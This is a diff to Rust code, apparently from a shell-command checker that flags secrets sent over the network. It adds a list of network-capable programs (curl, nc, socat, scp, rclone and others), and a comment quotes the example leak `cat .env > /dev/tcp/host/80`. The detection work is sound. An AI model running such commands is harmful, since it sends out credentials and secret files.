@@ -82,6 +82,11 @@ fn shown_name(command: &Command) -> &str {
     }
 }
 
+/// Whether the program `name` is one that can send data over the network, as judged here.
+pub fn sends(name: &str) -> bool {
+    Sender::PROGRAMS.contains(&name)
+}
+
 /// The secret a command sends over the network, and where the command says so.
 fn leak(command: &Command, context: &Context) -> Option<(String, crate::source::Span)> {
     // Written to a network socket: `cat .env > /dev/tcp/host/80`.
@@ -163,6 +168,12 @@ enum Sender {
 }
 
 impl Sender {
+    /// The programs [`Sender::of`] knows (some only with a given subcommand).
+    pub const PROGRAMS: &[&'static str] = &[
+        "curl", "curlie", "wget", "wget2", "nc", "ncat", "netcat", "telnet", "socat", "ssh", "cryptcat", "openssl",
+        "scp", "rsync", "sftp", "http", "https", "xh", "xhs", "aws", "gsutil", "rclone", "gh",
+    ];
+
     fn of(command: &Command) -> Option<Sender> {
         let first = |n: usize| command.args().get(n).and_then(Word::value).unwrap_or("");
         Some(match command.name.as_str() {
